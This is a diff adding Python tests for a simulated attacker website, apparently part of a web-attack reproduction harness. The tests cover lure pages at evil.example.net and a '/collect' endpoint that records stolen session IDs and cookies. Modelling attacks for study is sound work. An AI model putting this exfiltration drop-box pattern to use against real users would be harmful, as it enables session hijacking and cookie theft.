@@ -1,0 +1,59 @@
+"""Tests for the attacker's site (lure pages + exfiltration drop box)."""
+
+from __future__ import annotations
+
+from repro.attacks.attacker import AttackerSite
+from repro.http.messages import HttpRequest
+
+
+def request(site: AttackerSite, path: str, *, cookies: str = "") -> object:
+    req = HttpRequest(method="GET", url=f"{site.origin}{path}")
+    if cookies:
+        req.attach_cookie_header(cookies)
+    return site.handle_request(req)
+
+
+class TestLurePages:
+    def test_set_page_returns_the_absolute_url_and_serves_it(self):
+        site = AttackerSite()
+        url = site.set_page("/kittens", "<html><body>cute</body></html>")
+        assert url == "http://evil.example.net/kittens"
+        assert request(site, "/kittens").body.startswith("<html>")
+
+    def test_paths_are_normalised(self):
+        site = AttackerSite()
+        site.set_page("prize", "<html></html>")
+        assert request(site, "/prize").ok
+
+    def test_unknown_paths_are_404(self):
+        assert request(AttackerSite(), "/nothing").status == 404
+
+    def test_clear_forgets_pages_and_loot(self):
+        site = AttackerSite()
+        site.set_page("/kittens", "<html></html>")
+        request(site, "/collect?c=sid%3Dabc")
+        site.clear()
+        assert request(site, "/kittens").status == 404
+        assert site.hits == 0
+
+
+class TestCollectionEndpoint:
+    def test_collect_records_query_parameters(self):
+        site = AttackerSite()
+        response = request(site, "/collect?c=sid%3Ddeadbeef")
+        assert response.ok
+        assert site.hits == 1
+        assert site.received("deadbeef")
+        assert not site.received("othersession")
+
+    def test_collect_records_cookies_that_rode_along(self):
+        site = AttackerSite()
+        request(site, "/collect?x=1", cookies="tracking=xyz")
+        assert site.received("tracking=xyz")
+
+    def test_multiple_hits_accumulate(self):
+        site = AttackerSite()
+        request(site, "/collect?c=first")
+        request(site, "/collect?c=second")
+        assert site.hits == 2
+        assert site.received("first") and site.received("second")
